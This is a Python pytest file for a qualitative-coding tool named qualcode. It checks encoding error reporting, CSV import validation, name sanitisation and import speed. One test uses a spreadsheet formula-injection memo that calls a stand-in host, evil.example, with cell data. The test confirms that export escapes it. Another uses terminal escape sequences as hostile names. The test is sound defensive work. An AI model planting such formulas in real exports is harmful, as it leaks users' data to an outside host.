"""Problems that used to pass silently are now said out loud (issue 13)."""

from __future__ import annotations

import csv
import time
from pathlib import Path

import pytest

from qualcode.cli import main
from qualcode.core.project import Project, create_project
from qualcode.io.codings_csv import export_codings, import_codings
from qualcode.io.transcripts.extract import TranscriptError, read_transcript

TEXT = "Interviewer: Hoe gaat het met je studie?\nStudent: Goed, mijn mentor helpt.\n"


@pytest.fixture
def project(tmp_path: Path) -> Project:
    with create_project(str(tmp_path / "p.qcdb")) as project:
        project.coders.add("Anouk", role="lead")
        project.documents.add("doc", TEXT)
        project.codebook.add("Mentor", coder="Anouk")
        yield project


def test_utf8_with_a_few_bad_bytes_is_reported_with_line_and_offset(tmp_path: Path) -> None:
    path = tmp_path / "interview.txt"
    good = "Student: het café was dicht, één keer.\n".encode()
    path.write_bytes(good * 3 + b"Interviewer: en \xe9n toen?\n")
    with pytest.raises(TranscriptError) as info:
        read_transcript(path)
    message = str(info.value)
    assert "line 4" in message and f"byte offset {len(good) * 3 + 16}" in message
    assert "0xe9" in message


def test_real_windows_1252_still_imports(tmp_path: Path) -> None:
    path = tmp_path / "old.txt"
    path.write_bytes("Student: het café was dicht, één keer – echt.\n".encode("cp1252"))
    extracted = read_transcript(path)
    assert extracted.encoding == "cp1252"
    assert "café" in extracted.text and "één" in extracted.text


def test_semicolon_csv_gets_a_hint(project: Project, tmp_path: Path) -> None:
    path = tmp_path / "codings.csv"
    path.write_text("document;coder;start;end;code;memo\ndoc;Anouk;0;5;Mentor;\n")
    with pytest.raises(Exception, match="seems to use ';' as separator"):
        import_codings(project, path)


@pytest.mark.parametrize("offset", ["1_0", "١٠", "１０", " 10.0"])
def test_offsets_must_be_ascii_digits(project: Project, tmp_path: Path, offset: str) -> None:
    path = tmp_path / "codings.csv"
    path.write_text(
        f"document,coder,start,end,code,memo\ndoc,Anouk,{offset},20,Mentor,\n", encoding="utf-8"
    )
    with pytest.raises(Exception, match="digits 0-9"):
        import_codings(project, path)
    assert project.info().codings == 0


def test_codings_export_escapes_formulas_and_round_trips(project: Project, tmp_path: Path) -> None:
    memo = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    project.codings.add("doc", "Anouk", "Mentor", 0, 11, memo=memo)
    out = tmp_path / "codings.csv"
    export_codings(project, out)
    with out.open(encoding="utf-8", newline="") as handle:
        row = next(csv.DictReader(handle))
    assert row["memo"] == "'" + memo  # a spreadsheet shows it as text, never runs it
    with create_project(str(tmp_path / "q.qcdb")) as other:
        other.coders.add("Anouk")
        other.documents.add("doc", TEXT)
        other.codebook.add("Mentor", coder="Anouk")
        import_codings(other, out)
        assert [c.memo for c in other.codings.list()] == [memo]


def test_control_characters_and_long_names_are_cleaned(project: Project) -> None:
    coder = project.coders.add("\x1b[2J\x1b[31mEvil\nName" + "x" * 100_000)
    assert "\x1b" not in coder.name and "\n" not in coder.name
    assert len(coder.name) <= 200


def test_error_lines_are_capped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["info", str(tmp_path / ("\x1b[31m" + "y" * 100_000 + "\n.qcdb"))])
    err = capsys.readouterr().err
    assert code == 1
    assert "\x1b" not in err
    assert max(len(line) for line in err.splitlines()) <= 600


def test_many_codings_rows_read_each_text_once(project: Project, tmp_path: Path) -> None:
    project.documents.add("long", "woord " * 1000)
    path = tmp_path / "many.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["document", "coder", "start", "end", "code", "memo"])
        for i in range(20_000):
            writer.writerow(["long", f"C{i % 10}", i // 10, i // 10 + 5, "Mentor", ""])
    started = time.perf_counter()
    summary = import_codings(project, path, add_coders=True)
    elapsed = time.perf_counter() - started
    assert summary.codings == 20_000
    # Was 15.9 s (one documents.text query per row); shared 2-core machine, generous.
    assert elapsed < 12, elapsed


def test_codebook_import_says_when_a_known_id_comes_with_a_new_name(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "p.qcdb"
    with create_project(str(path)) as project:
        project.coders.add("Anouk", role="lead")
        code = project.codebook.add("Mentor", coder="Anouk")
    renamed = tmp_path / "renamed.yaml"
    renamed.write_text(
        f"qualcode_codebook: 1\nname: x\ncodes:\n  - name: Studieloopbaanbegeleider\n"
        f"    guid: {code.guid}\n",
        encoding="utf-8",
    )
    capsys.readouterr()
    assert main(["codebook", "import", str(path), str(renamed)]) == 0
    out = capsys.readouterr().out
    assert "rename not taken: Mentor is called 'Studieloopbaanbegeleider'" in out
    assert "--accept-renames" in out and "--plan-out" in out
    with create_project(str(tmp_path / "unused.qcdb")):
        pass
    from qualcode.core.project import open_project

    with open_project(str(path)) as project:
        assert [r.name for r in project.codebook.tree()] == ["Mentor"]
    assert main(["codebook", "import", str(path), str(renamed), "--accept-renames"]) == 0
    assert "1 renamed" in capsys.readouterr().out
    with open_project(str(path)) as project:
        assert [r.name for r in project.codebook.tree()] == ["Studieloopbaanbegeleider"]
